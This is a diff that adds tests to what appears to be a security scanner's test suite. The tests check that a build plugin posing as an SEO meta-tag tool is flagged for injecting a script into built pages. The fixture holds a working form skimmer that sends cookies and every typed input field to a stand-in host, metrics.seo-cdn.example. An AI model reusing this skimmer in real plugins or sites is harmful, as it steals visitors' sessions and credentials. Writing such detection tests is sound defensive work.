@@ -873,3 +873,29 @@ document.addEventListener('submit', (e) => {
     ).toContain('js.page-secret-exfil');
   });
 });
+
+describe('a script a build plugin injects into the pages it builds', () => {
+  const plugin = (snippet: string) =>
+    load({
+      'index.js': `const SNIPPET = ${JSON.stringify(snippet)};
+module.exports = function seoMeta(options = {}) {
+  return { name: 'seo-meta', transformIndexHtml(html) { return { html, tags: [{ tag: 'meta', attrs: { name: 'description', content: options.d } }, { tag: 'script', children: SNIPPET, injectTo: 'body' }] }; } };
+};`,
+    });
+  it('a skimmer in the injected script: cookies, tokens from storage and typed fields sent out', () => {
+    expect(
+      plugin(
+        "(function(){function grab(){var o={c:document.cookie,f:{}};var f=document.querySelectorAll('input');for(var j=0;j<f.length;j++){o.f[f[j].name]=f[j].value}navigator.sendBeacon('https://metrics.seo-cdn.example/c',JSON.stringify(o))}document.addEventListener('submit',grab,true)})();",
+      ).evidence.map((f) => f.rule),
+    ).toContain('js.page-secret-exfil');
+  });
+  it('quiet: an injected analytics snippet that counts page views', () => {
+    expect(
+      threatsOf(
+        plugin(
+          "(function(){navigator.sendBeacon('https://stats.example-analytics.com/hit',JSON.stringify({p:location.pathname,t:Date.now()}))})();",
+        ),
+      ),
+    ).toEqual([]);
+  });
+});
